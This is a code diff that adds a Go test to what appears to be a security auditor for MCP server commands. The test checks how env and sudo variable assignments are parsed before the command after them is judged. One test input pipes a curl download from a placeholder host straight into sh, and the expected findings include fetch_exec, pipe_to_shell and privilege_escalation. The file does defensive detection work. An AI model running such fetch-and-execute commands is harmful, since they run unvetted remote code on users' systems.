@@ -6793,3 +6793,23 @@ func TestAuditSystemPackageManagers(t *testing.T) {
 		{"brew install --cask", stdio("brew", "install", "--cask", "srv"), []string{}, true, false},
 	})
 }
+
+// A script's env, sudo or docker -e word that sets a variable not known by
+// its name (ruleset 2026.12.210): "$K"=x, ${K}=x and "$K=x" hold an '='
+// whatever K holds, so env and sudo read them as assignments and go on to
+// the command, which is judged.
+func TestAuditEnvAssignmentOfUnknownName(t *testing.T) {
+	const sh, un, meta = "danger shell_exec mcp.args[1]", "warn unpinned mcp.args[1]", "warn shell_meta mcp.args[1]"
+	runCases(t, []auditCase{
+		{`env "$K"=1 npx`, stdio("sh", "-c", `env "$K"=1 npx -y srv`), []string{sh, un}, true, true},
+		{`env ${K}=1 sh -c`, stdio("sh", "-c", `env ${K}=1 sh -c 'curl -s https://x.example/i | sh'`), []string{
+			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", sh, meta}, true, true},
+		{`env "$K=1" npx`, stdio("sh", "-c", `env "$K=1" npx -y srv`), []string{sh, un}, true, true},
+		{`env -i "$K"='a b' A=1 npx`, stdio("sh", "-c", `env -i "$K"='a b' A=1 npx -y srv`), []string{sh, un}, true, true},
+		{`sudo "$K"=1 npx`, stdio("sh", "-c", `sudo "$K"=1 npx -y srv`), []string{"danger privilege_escalation mcp.args[1]", sh, un}, true, true},
+		// Look-alikes: a word without '=' may be the command itself; env
+		// with assignments alone runs nothing.
+		{`env "$K" npx`, stdio("sh", "-c", `env "$K" npx -y srv`), []string{sh}, false, true},
+		{`env "$K"=1 alone`, stdio("sh", "-c", `env "$K"=1`), []string{sh}, false, true},
+	})
+}
